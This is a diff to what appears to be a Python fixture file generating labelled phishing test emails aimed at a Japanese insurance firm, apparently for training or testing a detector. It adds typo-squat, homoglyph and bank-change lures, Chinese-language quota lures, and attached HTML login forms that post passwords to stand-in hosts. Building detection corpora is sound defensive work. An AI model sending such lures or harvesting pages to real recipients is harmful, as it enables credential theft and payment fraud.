@@ -13,6 +13,7 @@ F, S, U, L = ("attack.freemail_sender", "attack.signature_mismatch",
 K, C, T = ("attack.non_japanese_kanji", "attack.credential_request",
            "attack.theme")
 X, D, R = "attach.executable", "attach.double_extension", "attach.rlo"
+LS = "attack.lookalike_sender"
 
 TANAKA = ("田中 一郎", "tanaka@sakura-hoken.example")
 SATO = ("佐藤 美咲", "sato@sakura-hoken.example")
@@ -119,7 +120,7 @@ lure("lure-004-resume-en.eml", [F, T, X, D],
      Emily Carter
      """),
 
-lure("lure-005-toiawase-urlmismatch.eml", [F, T, U],
+lure("lure-005-toiawase-urlmismatch.eml", [F, T, U, L],
      ("東和損保 商品企画部", "towasonpo.shohin@hotmail.co.jp"), [EIGYO],
      "商品に関するお問い合わせへのご回答",
      charset="utf-8",
@@ -303,7 +304,7 @@ lure("lure-014-houshin-aioi.eml", [F, S, T, L],
      ----------------------------------------
      """),
 
-lure("lure-015-saisou-typosquat.eml", [T, X, D],
+lure("lure-015-saisou-typosquat.eml", [T, X, D, LS],
      ("パートナー商事 営業部", "eigyo@partner-shoj1.example"), [SATO],
      "Re: 資料の再送について",
      note="resend of material from a typo-squat of a partner domain; pdf.exe",
@@ -660,7 +661,7 @@ lure("lure-034-softbank-urlmismatch.eml", [U, L, C],
      </body></html>
      """),
 
-lure("lure-035-quota-owa-en.eml", [U, L, C],
+lure("lure-035-quota-owa-en.eml", [U, L, C, LS, T],
      ("IT Helpdesk", "helpdesk@sakura-hoken-mail.example"), [TANAKA],
      "Mailbox quota exceeded - action required",
      charset="us-ascii",
@@ -678,7 +679,7 @@ lure("lure-035-quota-owa-en.eml", [U, L, C],
      </body></html>
      """),
 
-lure("lure-036-quota-ja-ip.eml", [F, L, C],
+lure("lure-036-quota-ja-ip.eml", [F, L, C, T],
      ("システム管理者", "system.kanrisha.mail@outlook.com"), [SATO],
      "【システム管理者】メールボックスの容量が上限に達しました",
      charset="iso-2022-jp",
@@ -710,7 +711,7 @@ lure("lure-037-yucho-kouza.eml", [L, C],
      株式会社ゆうちょ銀行
      """),
 
-lure("lure-038-tokiomarine-agent.eml", [L, C],
+lure("lure-038-tokiomarine-agent.eml", [L, C, T],
      ("東京海上日動 代理店システム", "system@tokiomarine-agency-info.example"), [TANAKA],
      "【東京海上日動】代理店システム パスワード有効期限のお知らせ",
      charset="iso-2022-jp",
@@ -844,7 +845,7 @@ lure("lure-045-orico-urlmismatch.eml", [U, L, C],
      </body></html>
      """),
 
-lure("lure-046-saison-3ds.eml", [L, C],
+lure("lure-046-saison-3ds.eml", [L, C, T],
      ("セゾンカード", "info@saison-card-notice.example"), [YAMAMOTO],
      "【セゾンカード】本人認証サービス 再登録のお願い",
      charset="shift_jis",
@@ -860,7 +861,7 @@ lure("lure-046-saison-3ds.eml", [L, C],
      株式会社クレディセゾン
      """),
 
-lure("lure-047-deactivate-en-ip.eml", [F, L, C],
+lure("lure-047-deactivate-en-ip.eml", [F, L, C, T],
      ("Mail Administrator", "mail.admin.notice@gmail.com"), [TANAKA],
      "Your mailbox will be deactivated",
      charset="us-ascii",
@@ -1126,7 +1127,7 @@ lure("lure-063-po-rlo-scr.eml", [X, R],
      JP Trade Partners
      """),
 
-lure("lure-064-towa-sig-sompo.eml", [S, L],
+lure("lure-064-towa-sig-sompo.eml", [S, L, LS],
      ("東和損保 サポート", "support@towa-sonpo-info.example"), [TANAKA],
      "代理店ポータル移行のお知らせ",
      charset="utf-8",
@@ -1145,7 +1146,7 @@ lure("lure-064-towa-sig-sompo.eml", [S, L],
      ----------------------------
      """),
 
-lure("lure-065-rakuten-gmail-en.eml", [F, L],
+lure("lure-065-rakuten-gmail-en.eml", [F, L, T],
      ("Rakuten Card Security", "rakuten.card.security.jp@gmail.com"), [SUZUKI],
      "Rakuten Card: please review recent activity",
      charset="us-ascii",
@@ -1208,7 +1209,7 @@ lure("lure-068-speaking-en.eml", [F, S, T],
      events@tokyo-insurance-forum.example
      """),
 
-lure("lure-069-share-gmail-urlmismatch.eml", [F, U, C],
+lure("lure-069-share-gmail-urlmismatch.eml", [F, U, C, L],
      ("パートナー商事 鈴木", "partnershoji.suzuki@gmail.com"), [SATO],
      "共有ファイルのお知らせ",
      charset="utf-8",
@@ -1271,7 +1272,7 @@ lure("lure-072-dhl-zip-js.eml", [F, T, X, D],
      DHL Express
      """),
 
-lure("lure-073-pw-change-lookalike.eml", [T, U, L, C],
+lure("lure-073-pw-change-lookalike.eml", [T, U, L, C, LS],
      ("さくら保険サービス 情報システム", "security@sakura-hoken-support.example"), [TANAKA, SATO],
      "【重要】セキュリティ注意喚起：パスワード変更のお願い",
      charset="iso-2022-jp",
@@ -1312,5 +1313,209 @@ lure("lure-074-envelope-gmail.eml", [F, T],
      到着まで数日かかりますので、先にお知らせいたします。
 
      株式会社パートナー商事 経理部
+     """),
+# ---------------------------------------------------------------- own and partner look-alikes, attached login pages,
+# ---------------------------------------------------------------- account themes, new brands, Chinese text
+
+lure("lure-075-partner-typo-bank.eml", [T, LS],
+     ("株式会社パートナー商事 経理部", "keiri@partner-shojl.example"), [SATO],
+     "【重要】振込先口座変更のお願い",
+     charset="iso-2022-jp",
+     note="bank-change request from a one-letter typo of the partner's domain (i -> l)",
+     text="""
+     佐藤様
+
+     いつもお世話になっております。パートナー商事経理部です。
+     監査対応のため、今月より弊社の振込先口座が変更となりました。
+     新しい口座は別途ご連絡いたしますので、旧口座へのお振込みは
+     お控えください。
+
+     株式会社パートナー商事 経理部
+     """),
+
+lure("lure-076-partner-othertld-invoice.eml", [T, LS, X],
+     ("北村工業 経理課", "keiri@kitamura-kogyo.com"), [SATO],
+     "請求書の再発行について",
+     charset="utf-8",
+     note="partner kitamura-kogyo.co.jp imitated at .com; an executable 'invoice' in a zip",
+     attach=[Att("seikyusho.zip", "zip", "application/zip",
+                 inner=[("seikyusho_0412.exe", "exe")])],
+     text="""
+     さくら保険サービス 佐藤様
+
+     いつもお世話になっております。北村工業経理課です。
+     先日お送りした請求書に誤りがございましたので、再発行いたしました。
+     添付ファイルをご確認ください。
+
+     北村工業株式会社 経理課
+     """),
+
+lure("lure-077-internal-glued-webmail.eml", [C, L, T],
+     ("Mail Administrator", "admin@mailsecure.example"), [TANAKA],
+     "Mailbox quota warning",
+     charset="us-ascii",
+     note="quota lure; the link is the firm's name glued to a word",
+     text="""
+     Dear user,
+
+     Your mailbox is almost full (98% of 2 GB used). To keep receiving
+     mail, sign in to the webmail and confirm your account:
+
+     https://sakurahokenwebmail.example/login
+
+     Mail Administrator
+     """),
+
+lure("lure-078-partner-homoglyph-link.eml", [C, L, T],
+     ("東和損保 代理店システム", "system@agency-portal-notice.example"), [TANAKA],
+     "パスワードの有効期限のお知らせ",
+     charset="utf-8",
+     note="password-expiry lure; the link imitates the partner insurer with 0 for o",
+     text="""
+     代理店各位
+
+     代理店システムのパスワードの有効期限が近づいています。
+     下記URLよりログインして、パスワードを再設定してください。
+
+     https://towa-s0npo.example/agency/login
+
+     東和損保 代理店システム事務局
+     """),
+
+lure("lure-079-html-login-ja.eml", [C, F, T],
+     ("経理担当", "keiri.office2025@gmail.com"), [SATO],
+     "支払期限のご案内（請求書添付）",
+     charset="iso-2022-jp",
+     note="an attached .html invoice is a login form: password input posting to a web site",
+     attach=[Att("請求書_0415.html", "html", "text/html",
+                 page='<html><head><meta charset="utf-8"><title>請求書の表示</title></head>'
+                      '<body><p>請求書を表示するにはサインインしてください。</p>'
+                      '<form method="post" action="https://doc-view-login.example/p.php">'
+                      'メールアドレス <input type="email" name="e"><br>'
+                      'パスワード <input type="password" name="p"><br>'
+                      '<input type="submit" value="表示"></form></body></html>\n')],
+     text="""
+     佐藤様
+
+     お世話になっております。
+     今月分のお支払いについてご案内いたします。
+     請求書を添付いたしましたのでご確認ください。
+
+     経理担当
+     """),
+
+lure("lure-080-html-login-script-en.eml", [C, T],
+     ("Accounts Payable", "ap@payments-notice.example"), [TANAKA],
+     "Remittance advice 2025-04",
+     charset="us-ascii",
+     note="an attached .htm page whose script writes the password field",
+     attach=[Att("Remittance_Advice.htm", "html", "application/octet-stream",
+                 page='<html><body><div id="x"></div><script>'
+                      'var f=document.createElement("form");f.action="login.php";'
+                      'var p=document.createElement("input");p.type="password";'
+                      'f.appendChild(p);document.getElementById("x").appendChild(f);'
+                      '</script></body></html>\n')],
+     text="""
+     Hello,
+
+     Please find attached the remittance advice for the April payment.
+     Open the attached file to view the details.
+
+     Accounts Payable
+     """),
+
+lure("lure-081-html-form-external.eml", [C, F, T],
+     ("Microsoft 365", "m365.notice.team@outlook.com"), [SATO],
+     "Password expiry notice",
+     charset="us-ascii",
+     note="an attached .shtml page posts what is typed to an outside site (no password input)",
+     attach=[Att("Password_Keep.shtml", "html", "text/html",
+                 page='<html><body><h3>Keep your current password</h3>'
+                      '<form action="https://keep-pass-now.example/k">'
+                      'Email <input name="u"> Current password <input name="c">'
+                      '<button>Keep</button></form></body></html>\n')],
+     text="""
+     Your password expires today.
+     To keep using your current password, open the attached page.
+
+     Microsoft 365 Team
+     """),
+
+lure("lure-082-unusual-signin-google.eml", [C, L, T],
+     ("Google", "no-reply@accounts-security-alert.example"), [TANAKA],
+     "Unusual sign-in activity",
+     charset="us-ascii",
+     note="unusual sign-in lure; Google's name as a label of another domain",
+     text="""
+     Unusual sign-in activity was detected on your Google Workspace account.
+
+     If this was not you, verify your account now:
+     https://accounts.google.com.signin-check.example/verify
+
+     The Google Workspace Team
+     """),
+
+lure("lure-083-jal-mileage.eml", [C, L, T],
+     ("JALマイレージバンク", "info@jal-mileage-bank.example"), [SATO],
+     "【JAL】マイルの有効期限とアカウントの確認",
+     charset="utf-8",
+     note="JAL mileage lure; brand glued to a word",
+     text="""
+     JALマイレージバンク会員の皆様
+
+     お客様のアカウントの確認が完了していないため、
+     マイルが失効する可能性があります。
+     下記よりログインして本人確認を完了してください。
+
+     https://jal-mileage-bank.example/member
+
+     JALマイレージバンク
+     """),
+
+lure("lure-084-ana-reregister.eml", [C, L, T],
+     ("ANA", "support@ana-member.example"), [TANAKA],
+     "ANAマイレージクラブ 会員情報の再登録のお願い",
+     charset="iso-2022-jp",
+     note="ANA re-registration lure; the brand as a hyphen part",
+     text="""
+     ANAマイレージクラブ会員様
+
+     システム更新のため、会員情報の再登録をお願いしております。
+     下記URLよりログインし、再登録を行ってください。
+
+     https://ana-member.example/amc/re
+
+     ANAマイレージクラブ事務局
+     """),
+
+lure("lure-085-chinese-simplified.eml", [K, C, L],
+     ("邮件系统管理员", "admin@mail-system-center.example"), [TANAKA],
+     "邮箱容量已满通知",
+     charset="gb2312",
+     note="quota lure written all in simplified Chinese (no kana)",
+     text="""
+     尊敬的用户：
+
+     您的邮箱容量已满，系统将暂停接收新邮件。
+     请尽快点击以下链接登录验证，以免影响您的正常使用：
+     http://198.51.100.23/webmail/login
+     我们将在二十四小时后停止服务。
+
+     邮件系统管理员
+     """),
+
+lure("lure-086-chinese-traditional.eml", [K, C, L],
+     ("郵件系統", "service@mailbox-notice.example"), [SATO],
+     "您的電子郵件帳號通知",
+     charset="utf-8",
+     note="account lure written all in traditional Chinese; few simplified forms, grammar words decide",
+     text="""
+     您好：
+
+     您的電子郵件存儲空間已滿，我們將在今天停止您的服務。
+     請點擊以下鏈接確認您的帳戶，這是最後的通知：
+     http://198.51.100.24/verify
+
+     系統管理部
      """),
 ]
